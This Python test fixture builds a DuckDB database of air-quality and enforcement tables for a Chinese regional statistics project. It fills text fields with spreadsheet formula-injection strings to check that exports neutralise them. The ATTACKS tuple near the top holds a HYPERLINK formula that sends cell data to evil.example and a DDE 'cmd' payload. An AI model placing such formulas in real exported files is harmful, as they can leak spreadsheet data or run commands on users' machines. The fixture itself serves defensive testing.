"""A published file written by hand: the declared marts with a few rows, among them text that attacks a spreadsheet."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import duckdb
import yaml

PROJECT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
ATTACKS = (FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－A1", "＠SUM(1)")
HARMLESS = ("28微克/立方米", "-3.2", "+5%", "PM2.5=28", "‘引号’", '逗号, 和"引号"', "两行\n文字")
YEARS = (2022, 2023)


def declared() -> dict[str, tuple[str, dict[str, tuple[str, str]]]]:
    """Tables with their description and their columns (type, description), as models/marts declares them."""
    tables = {}
    for path in sorted((PROJECT / "models" / "marts").glob("*.yml")):
        for model in yaml.safe_load(path.read_text(encoding="utf-8")).get("models", []):
            columns = {
                each["name"]: (each["data_type"], str(each.get("description", "")))
                for each in model["columns"]
                if "data_type" in each
            }
            if columns:
                tables[model["name"]] = (str(model["description"]), columns)
    return tables


def rows() -> dict[str, list[dict[str, Any]]]:
    """One region, two years, three indicators; one figure for each attack, as its sentence, its scope and its title."""
    texts = [*ATTACKS, *HARMLESS]
    observations = [
        {
            "observation_id": f"o{number:02}", "document_id": f"d{number:02}", "char_start": number, "char_end": number + 2,
            "quote": text, "sentence": text, "scope": text, "value_text": "28", "unit_text": "微克/立方米",
            "indicator_code": "air_pm25_annual_mean", "region_code": "330681", "year": YEARS[0],
            "period_start": "2022-01-01", "period_end": "2022-12-31", "period_type": "annual", "scenario": "actual",
            "measure": "level", "value": "-28.5", "unit_code": "ug/m3", "qualifier": "eq", "is_masked": False,
            "obs_status": "A", "quality_flags": ["series_break", "unknown_region"],
        }
        for number, text in enumerate(texts)
    ]  # fmt: skip
    hidden = {
        "value": None,
        "is_masked": True,
        "obs_status": "Q",
        "indicator_code": "enforcement_penalty_amount",
        "unit_code": "CNY",
    }
    target = {"scenario": "target", "qualifier": "le", "value": "23", "year": YEARS[1]}
    rank = {"measure": "rank", "value": "3", "unit_code": "{rank}"}
    nowhere = {"region_code": None, "value": "7", "quality_flags": []}
    observations += [
        {**observations[0], "observation_id": name, "quality_flags": [], **change}
        for name, change in {"hidden": hidden, "target": target, "rank": rank, "nowhere": nowhere}.items()
    ]
    answer = {
        "region_code": "330681",
        "indicator_code": "air_pm25_annual_mean",
        "unit_code": "ug/m3",
        "is_masked": False,
        "n_sources": 1,
    }
    return {
        "fct_observation": observations,
        "dim_document": [
            {"document_id": f"d{number:02}", "file_name": "a.txt", "title": text, "issuer": text, "status": "read",
             "candidate_count": 1, "observation_count": 1, "rejected_count": 0}
            for number, text in enumerate(texts)
        ],
        "dim_region": [
            {"region_code": "330681", "name_zh": "诸暨市", "short_name": "诸暨", "level": 3, "type": "县级市",
             "is_functional": False, "province_code": "330000", "province_zh": "浙江省", "place_code": "330681", "is_current": True},
        ],
        "dim_indicator": [
            {"indicator_code": code, "name_zh": zh, "name_en": en, "theme": code.split("_")[0], "unit_code": unit,
             "direction": "lower_better"}
            for code, zh, en, unit in (
                ("air_pm25_annual_mean", "细颗粒物年均浓度", "PM2.5 mean", "ug/m3"),
                ("enforcement_penalty_amount", "行政处罚金额", "Fines", "CNY"),
            )
        ],
        "dim_unit": [
            {"unit_code": code, "name_zh": zh, "name_en": en, "dimension": "x", "to_base": 1}
            for code, zh, en in (("ug/m3", "微克/立方米", "Microgram per cubic metre"), ("CNY", "元", "Yuan"), ("{rank}", "位次", "Rank"), ("%", "百分比", "Percent"))
        ],
        "fct_indicator_year": [
            {**answer, "year": YEARS[0], "actual_value": "-28.5", "actual_observation_id": "o00", "rank": 3, "rank_observation_id": "rank", "picked_rule": "full_year_own_report"},
            {**answer, "year": YEARS[1], "target_value": "23", "target_observation_id": "target", "n_sources": 0},
            {**answer, "year": YEARS[0], "indicator_code": "enforcement_penalty_amount", "unit_code": "CNY", "is_masked": True, "actual_observation_id": "hidden"},
        ],
    }  # fmt: skip


def write(database: Path, content: dict[str, list[dict[str, Any]]]) -> Path:
    """Write schema marts with these rows, the project's code lists, and every comment."""
    with duckdb.connect(str(database)) as con:
        con.execute("create schema marts")
        for table, (description, columns) in declared().items():
            kinds = ", ".join(f"{name} {kind}" for name, (kind, _) in columns.items())
            con.execute(f"create table marts.{table} ({kinds})")
            con.execute(f"comment on table marts.{table} is '{description.replace(chr(39), chr(39) * 2)}'")
            for name, (_, text) in columns.items():
                con.execute(f"comment on column marts.{table}.{name} is '{text.replace(chr(39), chr(39) * 2)}'")
            for row in content.get(table, []):
                places = ", ".join(f"${name}" for name in row)
                con.execute(f"insert into marts.{table} ({', '.join(row)}) values ({places})", row)
        seeds = PROJECT / "seeds"
        con.execute(f"insert into marts.dim_code from read_csv('{seeds}/codes.csv', all_varchar = true)")
        for code_list, seed, code in (("obs_status", "obs_status", "status_code"), ("measure", "measures", "measure")):
            con.execute(
                f"insert into marts.dim_code select '{code_list}', {code}, name_zh, name_en from read_csv('{seeds}/{seed}.csv', all_varchar = true)"
            )
    return database
